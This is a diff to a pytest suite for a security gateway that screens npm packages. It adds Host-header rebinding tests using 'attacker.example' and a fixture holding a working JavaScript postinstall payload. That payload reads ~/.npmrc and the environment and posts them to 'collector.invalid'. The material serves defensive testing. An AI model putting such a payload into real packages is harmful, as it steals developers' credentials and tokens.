@@ -270,7 +270,7 @@ def test_downloads_that_clients_break_off_leave_the_gateway_whole(stocked, tmp_p
             with httpx2.stream("GET", f"{running.url}/npm/large/-/large-1.0.0.tgz") as answer:
                 next(answer.iter_bytes(1000))
         slow = socket.create_connection(("127.0.0.1", int(running.url.rpartition(":")[2])))
-        slow.sendall(b"GET /npm/large/-/large-1.0.0.tgz HTTP/1.1\r\nHost: x\r\n\r\n")
+        slow.sendall(b"GET /npm/large/-/large-1.0.0.tgz HTTP/1.1\r\nHost: localhost\r\n\r\n")
         assert running.get(TARBALL).status_code == 200
         slow.close()
 
@@ -291,7 +291,7 @@ def test_downloads_that_clients_break_off_leave_the_gateway_whole(stocked, tmp_p
 @pytest.mark.parametrize("query", ["", "?inspected=true", "?cache=bypass"])
 def test_no_header_or_query_opens_what_is_held(held_gateway, way, query):
     answer = held_gateway.get(f"/npm/young/-/young-1.0.0.tgz{query}", **way)
-    assert answer.status_code in (401, 403)
+    assert answer.status_code in (401, 403, 421)
     assert b"\x1f\x8b" not in answer.content[:2]
 
 
@@ -327,6 +327,46 @@ def held_gateway(tmp_path_factory):
         simulator.npm.publish("young", "1.0.0", published=datetime.now(UTC) - timedelta(hours=1))
         with gateway(tmp_path_factory.mktemp("held"), simulator) as running:
             yield running
+
+
+@pytest.mark.parametrize(
+    ("host", "status"),
+    [
+        ("localhost", 200),
+        ("LOCALHOST:80", 200),
+        ("127.0.0.1:1", 200),
+        ("[::1]:1", 200),
+        ("attacker.example", 421),
+        ("attacker.example:80", 421),
+        ("127.0.0.1.attacker.example", 421),
+        ("localhost.attacker.example:1", 421),
+    ],
+)
+def test_a_page_whose_name_leads_to_this_machine_reads_nothing(held_gateway, host, status):
+    """A browser takes what it asks under the page's own name for the page's own, and lets it read it."""
+    assert held_gateway.get("/npm/left-pad", host=host).status_code == status
+    assert held_gateway.get("/-/customhouse/explain/pkg:npm/young", host=host).status_code == status
+
+
+def test_what_the_list_shows_uninspected_is_stopped_at_the_wall(stocked, tmp_path):
+    """More versions at once than are inspected before the list is told, and one of them is not what it seems."""
+    came = datetime.now(UTC) - timedelta(days=8)
+    steal = (
+        "const fs = require('fs'), os = require('os'), https = require('https')\n"
+        "const r = https.request({ host: 'collector.invalid', method: 'POST' })\n"
+        "r.write(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') + JSON.stringify(process.env)); r.end()\n"
+    )
+    for number in range(5):
+        files = {"index.js": "1\n"} | ({"setup.js": steal} if number == 1 else {})
+        scripts = {"postinstall": "node setup.js"} if number == 1 else {}
+        stocked.npm.publish("many", f"1.{number}.0", files=files, scripts=scripts, published=came)
+    stocked.npm.tag("many", "beta", "1.1.0")
+    with gateway(tmp_path, stocked) as running:
+        shown = running.get("/npm/many").json()["versions"]
+        assert "1.1.0" in shown, "only the newest two are inspected for the list"
+        is_error(running.get("/npm/many/-/many-1.1.0.tgz"), 403)
+        time.sleep(1)
+        assert "1.1.0" not in running.get("/npm/many").json()["versions"], "and from then on it is hidden"
 
 
 def test_head_of_what_is_held_is_refused_too(held_gateway):
